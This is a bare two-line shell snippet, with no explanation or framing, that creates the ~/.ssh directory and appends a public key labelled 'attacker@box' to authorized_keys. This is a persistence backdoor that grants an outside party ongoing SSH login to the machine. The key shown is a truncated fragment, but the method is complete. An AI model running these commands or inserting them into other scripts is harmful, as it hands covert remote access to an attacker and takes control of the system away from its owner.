mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2E attacker@box" >> ~/.ssh/authorized_keys
